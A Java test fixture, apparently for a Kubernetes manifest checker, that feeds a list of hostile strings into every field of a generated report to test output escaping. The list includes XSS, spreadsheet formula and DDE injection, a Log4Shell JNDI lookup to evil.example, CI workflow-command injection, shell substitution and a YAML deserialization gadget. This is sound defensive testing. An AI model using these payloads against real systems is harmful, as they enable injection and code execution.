package dev.plumbline.reports;

import static dev.plumbline.reports.Sample.EXPOSED;
import static dev.plumbline.reports.Sample.LIMITLESS;
import static dev.plumbline.reports.Sample.PRIVILEGED;

import dev.plumbline.evaluate.ExemptedFinding;
import dev.plumbline.evaluate.JudgedEnvironment;
import dev.plumbline.evaluate.Notice;
import dev.plumbline.evaluate.Report;
import dev.plumbline.evaluate.RequirementState;
import dev.plumbline.evaluate.RequirementState.State;
import dev.plumbline.evaluate.Risk;
import dev.plumbline.evaluate.UnusedExemption;
import dev.plumbline.evaluate.UnusedExemption.Why;
import dev.plumbline.profile.Acceptance;
import dev.plumbline.profile.Exemption;
import dev.plumbline.profile.FileGlob;
import dev.plumbline.profile.Profile;
import dev.plumbline.profile.Target;
import dev.plumbline.resource.InputError;
import dev.plumbline.resource.KubernetesVersion;
import dev.plumbline.resource.Location;
import dev.plumbline.resource.Resource;
import dev.plumbline.resource.Skipped;
import dev.plumbline.resource.Skipped.Reason;
import dev.plumbline.resource.Span;
import dev.plumbline.rule.Finding;
import dev.plumbline.rule.NotEvaluated;
import dev.plumbline.rule.Threshold;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.List;

/** What somebody may write into a manifest who means harm to those who read the report. */
final class Hostile {
  static final List<String> TEXTS =
      List.of(
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "\"' onmouseover=alert(1) x=\"",
          "</code></pre></details><iframe src=//evil.example></iframe>",
          "]]></failure><error/><!-- -- --> <![CDATA[ &amp; &#x0; %lt;",
          "`` ` ``` **bold** [link](https://evil.example) ![i](https://evil.example/i.png)",
          "\n\n# heading\n- item\n\n<details>\n\n@everybody #1 GH-1 https://evil.example",
          "\r\n::error file=x::stolen\n::add-mask::x\n##[error]x %0A::stop-commands::y",
          "a,b:c%0Ad::e",
          "=HYPERLINK(\"https://evil.example\")",
          "+1+cmd|' /C calc'!A0",
          "-2+3",
          "@SUM(1)",
          "\t=1+1",
          "\r=1+1",
          "\"\n=1+1,\"x\"",
          "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007x\u009b2J",
          "a\u0000b\u0008c\u007fd\u0085e\u2028f\u2029g\ufeffh",
          "\ud800 lone \udc00 halves \ud83d",
          "\uffff \ufffe \ufdd0 \ud83f\udffe",
          "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d",
          "- !!javax.script.ScriptEngineManager [] # *alias &anchor {{ }} %TAG",
          "yes\n---\nkind: Secret",
          "\\u0041 \\n \\",
          "</style></script><style>*{display:none}</style>",
          "$(touch x) ${jndi:ldap://evil.example} {{7*7}}",
          "😀 ünï © 中文");

  private Hostile() {}

  /** A report that says each of them wherever a manifest or profile can. */
  static Report report() {
    return new Report(
        Profile.DEFAULT,
        LocalDate.of(2027, 5, 20),
        TEXTS.stream().map(Hostile::judged).toList(),
        List.of(EXPOSED, LIMITLESS, PRIVILEGED),
        new KubernetesVersion(1, 34),
        TEXTS.size(),
        TEXTS.size(),
        TEXTS.stream().map(Hostile::finding).toList(),
        List.of(),
        0,
        TEXTS.stream().map(text -> new ExemptedFinding(finding(text), exemption(text))).toList(),
        TEXTS.stream()
            .map(text -> new UnusedExemption(exemption(text), Why.MATCHES_NOTHING))
            .toList(),
        TEXTS.stream().map(Hostile::notice).toList(),
        TEXTS.stream()
            .map(text -> new NotEvaluated(EXPOSED, EXPOSED.severity(), subject(text), text))
            .toList(),
        TEXTS.stream().map(text -> new InputError(new Location(text, Span.START), text)).toList(),
        TEXTS.stream()
            .map(text -> new Skipped(new Location(text, Span.START), Reason.OTHER))
            .toList(),
        TEXTS.stream().map(Hostile::fact).toList(),
        TEXTS.stream().map(Hostile::risk).toList(),
        List.of(),
        Sample.HISTORY);
  }

  private static Risk risk(String text) {
    Location place = new Location(text, Span.START);
    return new Risk(
        subject(text),
        List.of(
            new Risk.Factor(Risk.Kind.ROOT, text, place),
            new Risk.Factor(Risk.Kind.SECRETS, text, place)),
        "");
  }

  private static RequirementState fact(String text) {
    List<Finding> findings = List.of(finding(text));
    return new RequirementState(text, text, text, text, State.BROKEN, text, findings, 0);
  }

  private static JudgedEnvironment judged(String text) {
    return new JudgedEnvironment(text, Threshold.HIGH, new KubernetesVersion(1, 34), 1);
  }

  private static Notice notice(String text) {
    Location location = new Location(text, Span.START);
    return new Notice(Notice.Kind.NOT_ALLOWED, PRIVILEGED.id(), location, text, text);
  }

  private static Finding finding(String text) {
    return Sample.finding(PRIVILEGED, subject(text), 3, text, text).withEnvironment(text);
  }

  private static Resource subject(String text) {
    return Sample.deployment(text, text, text);
  }

  private static Exemption exemption(String text) {
    return new Exemption(
        PRIVILEGED.id(),
        new Target(
            new Target.Subject(text, text, text),
            text,
            text,
            List.of(new FileGlob(Path.of("/"), text))),
        new Acceptance(text, text, LocalDate.of(2027, 6, 1)),
        new Location(text, Span.START),
        text);
  }
}
